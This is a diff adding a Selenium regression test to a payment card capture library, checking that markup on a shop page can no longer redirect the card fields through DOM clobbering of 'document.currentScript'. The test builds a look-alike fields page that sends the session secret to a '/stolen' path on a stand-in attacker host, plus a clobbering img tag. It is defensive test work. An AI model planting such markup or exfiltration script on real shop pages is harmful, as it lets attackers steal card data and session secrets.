@@ -404,3 +404,55 @@ def test_a_tampered_copy_of_the_fields_script_does_not_run(
     # Held: the page's own loads name no Referer (its URL holds the session id).
     assert [r for r in stage.cdn.referers if r] == []
     assert browser.find_element(By.TAG_NAME, "html").get_attribute("data-tampered") is None
+
+
+FAKE_FIELDS = """<!doctype html><html><body><input id="number">
+<script>
+window.addEventListener("message", function (e) {
+  if (e.data && e.data.type === "init") { fetch("/stolen?" + encodeURIComponent(e.data.secret)); }
+});
+parent.postMessage({cofre: 1, type: "ready"}, "*");
+</script></body></html>"""
+
+
+def test_markup_on_the_shops_page_cannot_point_the_fields_elsewhere(
+    stage: Stage, browser: webdriver.Chrome
+) -> None:
+    """Medium (fixed, review web36). `capture.js` took the capture origin from
+    ``document.currentScript.src``, and an element with ``name="currentScript"`` on
+    the page replaces that property of ``document`` (DOM clobbering, as webpack's
+    CVE-2024-43788). So markup alone, no script (a review, a profile name, anything a
+    sanitizer lets through with ``name`` and ``src``), placed before the script tag,
+    made `Cofre.mount` frame the attacker's look-alike fields, hand them the session's
+    secret and take their "token": the shopper typed the card into the attacker's page.
+    A shop CSP with ``frame-src`` (docs/capture.md) blocks the frame; without one
+    nothing did. `capture.js` now reads the property through `Document.prototype` and
+    takes only a script element."""
+    session = _session(stage)
+    stage.evil.pages[f"/v1/hosted-fields/{session.session_id}"] = (
+        "text/html; charset=utf-8",
+        FAKE_FIELDS.encode(),
+    )
+    integrity = sri_hash(asset(CAPTURE_SCRIPT))
+    capture = stage.vault.capture_url
+    stage.shop.pages["/mount.js"] = (
+        "text/javascript",
+        b"""Cofre.mount({container: "#card",
+  session: document.documentElement.getAttribute("data-session"),
+  secret: document.documentElement.getAttribute("data-secret")});""",
+    )
+    stage.shop.pages["/clobbered"] = (
+        "text/html; charset=utf-8",
+        f"""<!doctype html><html data-session="{session.session_id}"
+ data-secret="{session.secret}"><body><div id="card"></div>
+<p>A review: <img name="currentScript" src="{stage.evil.url}/v1/capture.js" alt=""></p>
+<script src="{capture}/v1/capture.js" integrity="{integrity}" crossorigin="anonymous"></script>
+<script src="/mount.js"></script></body></html>""".encode(),
+    )
+    browser.get(stage.shop.url + "/clobbered")
+    frame = WebDriverWait(browser, STEP_TIMEOUT).until(
+        lambda d: d.find_element(By.CSS_SELECTOR, "#card iframe")
+    )
+    assert str(frame.get_attribute("src")).startswith(f"{capture}/v1/hosted-fields/")
+    assert _fields_inside(browser, "#card iframe")
+    assert not [path for path in stage.evil.seen if "hosted-fields" in path or "stolen" in path]
